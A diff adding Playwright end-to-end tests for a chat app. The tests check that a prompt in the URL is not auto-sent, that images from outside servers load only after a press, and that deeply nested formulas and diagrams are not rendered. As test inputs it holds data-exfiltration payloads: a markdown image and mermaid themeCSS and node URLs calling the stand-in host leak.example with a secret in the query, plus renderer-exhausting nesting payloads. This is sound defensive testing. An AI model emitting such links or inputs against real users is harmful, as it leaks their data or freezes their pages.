@@ -1,0 +1,108 @@
+import type { Page } from '@playwright/test';
+import { expect, test } from '../../support/app.ts';
+import type { TestClient } from '../../support/client.ts';
+
+/** What stands in others' texts does nothing by itself: no link spends, no picture is fetched. */
+
+/** A public session with one answer of these words. */
+const told = async (client: TestClient, ai: string): Promise<string> => {
+  const message = { id: 1, prev: 0, shown: true, human: '看看', ai, state: 'done', model: '' };
+  const { uuid } = await client.call('importSessions', {
+    data: { queqiao: 1, sessions: [{ title: '看看', messages: [message] }] },
+  });
+  await client.call('setSession', { session_id: uuid ?? '', private: 0 });
+  return uuid ?? '';
+};
+
+/** A number in letters, for the name of a macro. */
+const name = (at: number): string =>
+  Array.from(String(at), (digit) => String.fromCharCode(97 + Number(digit))).join('');
+
+/** Requests that leave for other servers; they are answered with nothing. */
+const leaving = async (page: Page): Promise<string[]> => {
+  const asked: string[] = [];
+  await page.route(/^https?:\/\/(?!127\.0\.0\.1|localhost)/, (route) => {
+    asked.push(route.request().url());
+    return route.abort();
+  });
+  return asked;
+};
+
+test('a link from outside fills the box and spends nothing', async ({ app, page, person }) => {
+  await app.enterAs(person);
+  const { uuid } = await person.client.call('newSession', { type: 0 });
+  await page.goto(`/chat?uuid=${uuid}&prompt=${encodeURIComponent('花掉一点')}&send=1`);
+  await expect(app.question).toHaveValue('花掉一点');
+  await expect(page).not.toHaveURL(/send=/);
+  await page.waitForTimeout(600);
+  expect((await person.client.call('historyList', { session_id: uuid })).total).toBe(0);
+  await app.sendButton.click();
+  await expect(app.log).toContainText('花掉一点');
+});
+
+test('pictures of other servers wait for a press, and a drawing loads none', async ({
+  app,
+  page,
+  person,
+}) => {
+  const asked = await leaving(page);
+  const drawing = [
+    '```mermaid',
+    "%%{init: {'themeCSS': '.node rect { background: url(https://leak.example/css.png) }'}}%%",
+    'flowchart LR',
+    '  a["开始"] --> b@{ img: "https://leak.example/node.png", label: "节点", h: 60 }',
+    '```',
+  ].join('\n');
+  const uuid = await told(
+    person.client,
+    `![秘密](https://leak.example/a.png?said=secret)\n\n${drawing}\n\n完了`,
+  );
+  await app.enterAs(person);
+  await page.goto(`/chat?uuid=${uuid}`);
+  await expect(app.log).toContainText('完了');
+  const chip = page.getByRole('button', { name: /加载 leak\.example 的图片/ });
+  await expect(chip).toBeVisible();
+  await expect(page.locator('.diagram, .code-box').first()).toBeVisible();
+  await page.waitForTimeout(800);
+  expect(asked).toEqual([]);
+  const call = page.waitForRequest('**/api/foreign_image');
+  await chip.click();
+  expect((await call).postDataJSON()).toEqual({ url: 'https://leak.example/a.png?said=secret' });
+  await expect(chip).toContainText('取不到');
+  expect(asked).toEqual([]);
+});
+
+test('formulas and diagrams that nest without end are shown as their source', async ({
+  app,
+  page,
+  person,
+}) => {
+  // What is out of sight is not drawn at all.
+  await page.setViewportSize({ width: 412, height: 4000 });
+  const nested = (open: string, close: string) => open.repeat(150) + 'x' + close.repeat(150);
+  const diagram = `${'subgraph a\n'.repeat(30)}b-->c\n${'end\n'.repeat(30)}`;
+  // Macros nest what their text does not.
+  const macros = Array.from(
+    { length: 80 },
+    (_, at) => `\\def\\m${name(at)}{x^{\\m${name(at + 1)}}}`,
+  );
+  const formulas = [
+    nested('x^{', '}'),
+    nested('\\frac{1}{', '}'),
+    nested('\\sqrt{', '}'),
+    `${macros.join('')}\\def\\m${name(80)}{x}\\m${name(0)}`,
+    '\\frac{1}{2}',
+  ];
+  const uuid = await told(
+    person.client,
+    `\`\`\`mermaid\nflowchart LR\n${diagram}\`\`\`\n\n${formulas.map((each) => `$$\n${each}\n$$`).join('\n\n')}\n\n看完了`,
+  );
+  await app.enterAs(person);
+  await page.goto(`/chat?uuid=${uuid}`);
+  await expect(app.log).toContainText('看完了');
+  await expect(app.log.locator('.katex').first()).toBeVisible();
+  await page.waitForTimeout(800);
+  // The tab lives, and only what is flat was drawn.
+  expect(await app.log.locator('.formula').count()).toBe(formulas.length);
+  expect(await app.log.locator('.formula[data-drawn]').count()).toBe(1);
+});
